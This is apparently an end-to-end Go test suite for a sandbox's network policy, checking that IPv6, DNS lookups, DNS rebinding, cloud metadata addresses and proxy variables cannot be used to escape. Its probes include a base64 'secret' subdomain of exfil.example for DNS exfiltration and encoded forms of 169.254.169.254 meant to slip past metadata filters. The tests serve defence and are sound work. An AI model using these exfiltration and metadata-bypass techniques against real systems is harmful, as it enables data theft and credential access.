package e2e

import (
	"fmt"
	"net"
	"net/netip"
	"strings"
	"testing"
	"time"

	"github.com/exec-server/exec-server/internal/network/rules"
	"github.com/exec-server/exec-server/internal/network/testnet"
)

// sandbox is an environment in an internet of the test's own, with a policy.
type sandbox struct {
	*harness
	n      *testnet.Internet
	root   *root
	server *server
	seen   *testnet.Capture
}

// withPolicy makes one, which sees from then on what leaves the host.
func withPolicy(t testing.TB, p rules.Policy) *sandbox {
	t.Helper()
	n, config := newInternet(t)
	r := newRoot(t, config)
	s := r.serveIn(n)
	b := &sandbox{harness: s.connect("/", ""), n: n, root: r, server: s}
	if p.Mode != rules.None {
		r.enforce(p)
	}
	b.seen = n.Capture(t)
	return b
}

// tells runs a probe and expects what it tells.
func (b *sandbox) tells(probe, want string) {
	b.t.Helper()
	if got := b.sh("exec 2>&1; probe " + probe); got != want {
		b.t.Errorf("probe %s: %q, want %q", probe, got, want)
	}
}

// silent expects that nothing has left the host.
func (b *sandbox) silent() {
	b.t.Helper()
	if packets := b.seen.Packets(); len(packets) > 0 {
		b.t.Errorf("there left %v", packets)
	}
}

func TestTrap93IPv6(t *testing.T) {
	to := testnet.Web6.String()
	t.Run("none", func(t *testing.T) {
		b := withPolicy(t, rules.Policy{Mode: rules.None})
		expect(t, "a client", b.sh("visit http://["+to+"]/"), "network is unreachable")
		for _, probe := range []string{"tcp [%s]:80", "udp [%s]:443", "ping %s", "raw [%s]:80", "name web.example [%s]:53"} {
			b.tells(fmt.Sprintf(probe, to), "unreachable")
		}
		b.silent()
	})
	// Everything of IPv4 may be reached, and nothing of IPv6.
	t.Run("rules", func(t *testing.T) {
		b := withPolicy(t, rules.Policy{Mode: rules.Rules, Rules: []rules.Rule{allow("0.0.0.0/0")}})
		expect(t, "a client", b.sh("visit http://["+to+"]/"), "refused")
		b.tells("tcp ["+to+"]:80", "refused")
		b.tells("udp ["+to+"]:443", "refused")
		b.tells("ping "+to, "not permitted")
		b.sh("probe raw [" + to + "]:80; probe frame") // where they go is what counts
		b.silent()
		b.tells("tcp "+testnet.Web.String()+":80", "ok")
		for _, table := range b.tables() {
			if !strings.HasPrefix(table, "inet ") {
				t.Errorf("there is a table of one family: %s", table)
			}
		}
	})
}

func TestTrap94LookupsTellNothing(t *testing.T) {
	ask := func(b *sandbox, want string) {
		b.t.Helper()
		for _, server := range []string{"8.8.8.8:53", "[2001:4860:4860::8888]:53", testnet.Resolver.String(), testnet.Gateway.String() + ":53"} {
			b.tells("name c2VjcmV0.exfil.example "+server, want)
		}
		b.sh("visit http://c2VjcmV0.exfil.example/; probe udp 8.8.8.8:443; probe ping 8.8.8.8; probe tcp 8.8.8.8:853")
		b.silent()
		if q := b.n.DNS.Queries(); len(q) > 0 {
			b.t.Errorf("the name server was asked %v", q)
		}
	}
	t.Run("none", func(t *testing.T) { ask(withPolicy(t, rules.Policy{Mode: rules.None}), "unreachable") })
	t.Run("rules", func(t *testing.T) {
		b := withPolicy(t, rules.Policy{Mode: rules.Rules, Rules: []rules.Rule{allow("web.example")}})
		ask(b, "ok NXDOMAIN NXDOMAIN")
		b.tells("name c2VjcmV0.web.example 8.8.8.8:53", "ok NXDOMAIN NXDOMAIN") // below an allowed name
		b.silent()
		b.tells("name web.example 8.8.8.8:53", "ok NOERROR "+testnet.Web.String()+" NOERROR")
	})
}

func TestTrap95Rebinding(t *testing.T) {
	b := withPolicy(t, rules.Policy{Mode: rules.Rules, Rules: []rules.Rule{allow("*.rebind.example")}})
	private := []string{"127.0.0.1", "10.0.0.1", "192.168.1.1", "172.16.0.1", "169.254.169.254", testnet.Host.String(), testnet.HostPublic.String(), "::1", "fd00:ec2::254", "::ffff:10.0.0.1"}
	for _, address := range []string{"127.0.0.1", testnet.Host.String()} {
		l, err := b.n.Host.Listen("tcp", address+":80")
		if err != nil {
			t.Fatal(err)
		}
		defer l.Close()
		go func() {
			if c, err := l.Accept(); err == nil {
				t.Errorf("the host is reached at %s", address)
				_ = c.Close()
			}
		}()
	}
	for i, address := range private {
		name := fmt.Sprint("n", i, ".rebind.example")
		b.n.DNS.Flip(name, 0, []string{testnet.Web.String()}, []string{address})
		expect(t, "at first", b.sh("visit http://"+name+"/"), "ok")
	}
	b.seen.Forget()
	for i, address := range private {
		url := fmt.Sprint("http://n", i, ".rebind.example/")
		eventually(t, url+" is "+address, func() bool { return !strings.HasSuffix(b.sh("visit "+url), "ok") })
		expect(t, address, b.sh("visit "+url), "no such host")
		if packets := b.seen.To(netip.MustParseAddr(address).Unmap()); len(packets) > 0 {
			t.Errorf("there left %v", packets)
		}
	}
	// And both at once: what is private is taken out.
	b.n.DNS.Set("both.rebind.example", time.Minute, "10.0.0.1", testnet.Web.String())
	b.tells("name both.rebind.example 8.8.8.8:53", "ok NOERROR "+testnet.Web.String()+" NOERROR")
	expect(t, "the log", b.server.logs.String(), `"reason":"rebind"`)
}

func TestTrap96Metadata(t *testing.T) {
	policies := map[string]rules.Policy{
		"open":         {Mode: rules.Open},
		"everything":   {Mode: rules.Rules, Rules: []rules.Rule{allow("*")}},
		"all prefixes": {Mode: rules.Rules, Rules: []rules.Rule{allow("0.0.0.0/0", "::/0", "169.254.0.0/16", "100.64.0.0/10", "fc00::/7")}},
	}
	for name, p := range policies {
		t.Run(strings.ReplaceAll(name, " ", "-"), func(t *testing.T) {
			b := withPolicy(t, p)
			for _, a := range testnet.Metadata {
				b.tells("tcp "+netip.AddrPortFrom(a, 80).String(), "refused")
				b.tells("udp "+netip.AddrPortFrom(a, 443).String(), "refused")
				b.tells("ping "+a.String(), "not permitted")
				b.sh("probe raw " + netip.AddrPortFrom(a, 80).String())
			}
			for _, to := range []string{"http://2852039166/", "http://[::ffff:169.254.169.254]/", "http://[64:ff9b::169.254.169.254]/", "http://[2002:a9fe:a9fe::1]/"} {
				if got := b.sh("visit " + to); strings.HasSuffix(got, "ok") {
					t.Errorf("%s: %s", to, got)
				}
			}
			b.silent()
			b.tells("tcp "+netip.AddrPortFrom(testnet.Web, 80).String(), "ok")
		})
	}
	t.Run("named", func(t *testing.T) {
		b := withPolicy(t, rules.Policy{Mode: rules.Rules, Rules: []rules.Rule{allow("169.254.169.254", "fd00:ec2::254")}})
		for _, a := range testnet.Metadata {
			want := "refused"
			if s := a.String(); s == "169.254.169.254" || s == "fd00:ec2::254" {
				want = "ok"
			}
			b.tells("tcp "+netip.AddrPortFrom(a, 80).String(), want)
		}
	})
}

func TestTrap97NoVariablesOfAProxy(t *testing.T) {
	b := withPolicy(t, rules.Policy{Mode: rules.Rules, Rules: []rules.Rule{allow("web.example"), allow("2606:4700::/32")}})
	if got := b.sh("env | grep -i proxy"); got != "" {
		t.Errorf("there are variables: %s", got)
	}
	other := netip.AddrPortFrom(testnet.Other, 443).String()
	b.tells("tcp "+other, "refused")
	b.tells("tls "+other+" web.example", "refused")
	b.tells("udp "+other, "refused")
	b.sh("probe raw " + other + "; probe frame")
	if got := b.sh("env -i HTTPS_PROXY=http://" + testnet.Gateway.String() + ":8080 /bin/visit https://web.example/"); strings.HasSuffix(got, "ok") {
		t.Errorf("by a proxy that is not allowed: %s", got)
	}
	if packets := b.seen.To(testnet.Other); len(packets) > 0 {
		t.Errorf("there left %v", packets)
	}
	if packets := b.seen.To(testnet.Gateway); len(packets) > 0 {
		t.Errorf("there left %v", packets)
	}
	// What is allowed needs no variable either.
	b.tells("name web.example 1.1.1.1:53", "ok NOERROR "+testnet.Web.String()+" NOERROR")
	b.tells("tls "+net.JoinHostPort(testnet.Web.String(), "443")+" web.example", "ok 200")
	b.tells("banner "+net.JoinHostPort(testnet.Web6.String(), "22"), "ok "+strings.TrimSpace(testnet.Banner))
}
